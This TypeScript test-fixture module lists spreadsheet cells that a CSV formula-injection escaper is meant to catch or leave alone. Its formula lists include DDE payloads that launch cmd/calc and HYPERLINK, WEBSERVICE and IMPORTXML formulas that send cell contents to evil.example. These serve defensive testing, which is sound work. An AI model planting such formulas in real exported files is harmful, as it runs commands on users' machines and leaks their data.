/** Cells that a spreadsheet would take for a formula, and how they stand in a file: as text. */
export const FORMULAS: readonly string[] = [
  '=1+1',
  '+1',
  '-2+3',
  '@SUM(A1)',
  "=cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  '=DDE("cmd";"/C calc";"x")',
  '=HYPERLINK("https://evil.example?x="&A1,"hier")',
  '=WEBSERVICE("https://evil.example/"&A1)',
  '=IMPORTXML(CONCAT("https://evil.example?",A1:Z9),"//a")',
  '  =1',
  '\u00A0=1',
  '\u200B=1',
  '\uFEFF=1',
  '\u0000=1',
  '\u3164=1',
  '\uD800=1',
  '\tText',
  '\nText',
  '＝1',
  '＋1',
  '－1',
  '＠SUM(A1)',
  '﹦1',
  '﹣1',
  '- Stichpunkt',
];

/** Cells that begin with a carriage return; it leaves as LF. */
export const FORMULAS_AFTER_RETURN: readonly string[] = ['\rText', '\r\nText'];

/**
 * Cells that are harmless as they are, and would become formulas in a program that takes the other separator for the
 * right one; and how they stand in a file.
 */
export const FORMULAS_INSIDE: readonly (readonly [string, string])[] = [
  ['Bitte ändern;=1+1;', "Bitte ändern;'=1+1;"],
  ['a,=1', "a,'=1"],
  ['a; \u200B＝1', "a; \u200B'＝1"],
  ['a;"=1"', 'a;"\'=1"'],
  ['";=1+1;"', '";\'=1+1;"'],
  ['Zeile\n=HYPERLINK("https://evil.example")', 'Zeile\n\'=HYPERLINK("https://evil.example")'],
  ['Zeile\r\n@SUM(A1)', "Zeile\n'@SUM(A1)"],
  ["Zeile\r-2+cmd|' /C calc'!A0", "Zeile\n'-2+cmd|' /C calc'!A0"],
  ['a\t+SUM(A1)', "a\t'+SUM(A1)"],
  ['\t=1', "'\t'=1"],
  ['a;＋SUM(A1)', "a;'＋SUM(A1)"],
];

/** What people write, and no program takes for a formula: it stays as it is. */
export const HARMLESS: readonly string[] = [
  "'=1",
  'a=1',
  '„=1“',
  'E-Mail',
  '1-2',
  'gut ;-)',
  'Fehlt:\n- Adresse\n- Frist',
  '3 + 4; 5',
];
